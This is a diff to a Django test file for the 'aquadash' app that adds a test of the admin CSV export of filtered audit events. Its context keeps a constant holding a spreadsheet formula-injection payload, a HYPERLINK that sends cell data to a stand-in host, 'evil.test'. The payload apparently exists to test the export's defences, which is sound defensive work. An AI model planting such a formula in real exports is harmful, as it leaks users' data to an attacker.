@@ -10,7 +10,7 @@ from django.test import Client
 
 from aquadash import exports
 from aquadash import simulator as sim
-from aquadash.models import Download, Lookup
+from aquadash.models import AuditEvent, Download, Lookup
 
 HOSTILE_NAME = '=HYPERLINK("https://evil.test/?leak="&A1, "Open")'
 
@@ -110,3 +110,15 @@ def test_the_trails_are_exported_only_to_staff_who_may_read_them(client, make_us
 
     assert auditor.get("/admin/aquadash/lookup/export.csv").status_code == 200
     assert auditor.get("/admin/aquadash/download/export.csv").status_code == 403
+
+
+def test_admins_export_the_audit_events_as_filtered(
+    admin_client, outsider_client, simulator_tenant
+):
+    outsider_client.get("/t/sim/jobs/")  # refused: an access-denied event
+    AuditEvent.record(AuditEvent.Kind.CREDENTIALS_UNREADABLE, tenant=simulator_tenant, detail="x")
+
+    table = rows(admin_client.get("/admin/aquadash/auditevent/export.csv?kind=access_denied"))
+
+    assert table[0] == ["at", "kind", "username", "tenant_name", "target", "detail"]
+    assert [row[1:5] for row in table[1:]] == [["access_denied", "outsider", "Sim", "/t/sim/jobs/"]]
